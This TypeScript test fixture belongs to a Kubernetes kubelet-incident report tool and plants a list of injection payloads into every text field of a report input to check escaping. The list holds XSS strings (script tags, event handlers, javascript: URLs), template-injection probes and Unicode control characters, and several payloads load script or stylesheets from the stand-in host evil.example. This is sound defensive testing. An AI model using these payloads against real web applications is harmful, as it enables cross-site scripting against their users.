/** Incidents of which every text is planted. */
import type { ReportInput } from '../../../src/cli/report/report-input.ts';

export const PAYLOADS = [
  '<script>document.title = "owned"</script>',
  '</style><script>document.title = "owned"</script><style>',
  '</title></head><body onload="document.title=`owned`">',
  '"><img src=x onerror="document.title=\'owned\'">',
  "' onmouseover='document.title=1' x='",
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<svg onload=document.title=1><animate attributeName=href values=javascript:alert(1)>',
  'javascript:document.title="owned"',
  'https://evil.example/"onclick="document.title=1',
  '<a href="java\nscript:alert(1)">x</a>',
  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe><base href=https://evil.example/>',
  '*{background:url(https://evil.example/x)} @import "https://evil.example/x.css"; expression(alert(1))',
  '<form action=https://evil.example><input autofocus onfocus=document.title=1>',
  '<!--<![CDATA[-->--!><x>]]>&lt;script&gt;&#60;script&#62;',
  '\u202eevil\u202c \u2066x\u2069 \u200b\ufeff\0\b\x1b[31m\u2028\u2029',
  `Z${'\u0334'.repeat(300)}algo`,
  '\ud800 lone \udfff',
  '${7*7} {{7*7}} <%= 7 %> `${document.title=1}`',
] as const;

/** Fields of which the API holds one of some words. */
const WORDS = new Set([
  'type',
  'state',
  'action',
  'mode',
  'strategy',
  'gate',
  'kind',
  'class',
  'confidence',
  'restartKubelet',
  'restartRuntime',
  'decision',
  'fault',
  'relist',
  'controlPlane',
  'status',
  'source',
  'allowedActions',
]);

/** The same, with each text by what `planted` says of it; with `times`, those that are times too. */
export function withTexts(input: ReportInput, planted: (text: string) => string, times: boolean): ReportInput {
  const isTime = (text: string): boolean => /^\d{4}-\d\d-\d\dT/.test(text);
  const walk = (value: unknown, key: string): unknown => {
    if (Buffer.isBuffer(value)) return value;
    if (typeof value === 'string') return WORDS.has(key) || (!times && isTime(value)) ? value : planted(value);
    if (Array.isArray(value)) return value.map((one) => walk(one, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, walk(one, name)]));
  };
  const { artifacts } = input;
  const hostile = Buffer.from(planted('log'));
  const planting = { kind: 'read', name: planted('name'), content: hostile } as const;
  const stacks = Buffer.from(
    `goroutine 1 [${planted('state').replaceAll(/[\n\]]/g, ' ')}]:\n${planted('func').replaceAll('\n', ' ')}(0x1)\n\t/x/${planted('file').replaceAll('\n', ' ')}.go:1 +0x1\n`,
  );
  return {
    incident: walk(input.incident, '') as ReportInput['incident'],
    events: [1, 2].map((count) => ({
      metadata: input.incident.metadata,
      type: 'Warning',
      reason: 'RecoverySkipped',
      message: planted('message'),
      count,
      involvedObject: { kind: 'KubeletIncident', name: planted('name'), uid: '' },
    })),
    artifacts: {
      kubeletStacks:
        artifacts.kubeletStacks.kind === 'read'
          ? { ...planting, content: stacks }
          : { kind: 'none', why: planted('why') },
      runtimeStacks:
        artifacts.runtimeStacks.kind === 'read'
          ? { ...planting, content: stacks }
          : { kind: 'none', why: planted('why') },
      kubeletLog: artifacts.kubeletLog.kind === 'read' ? planting : { kind: 'none', why: planted('why') },
    },
    now: input.now,
    version: planted('version'),
  };
}
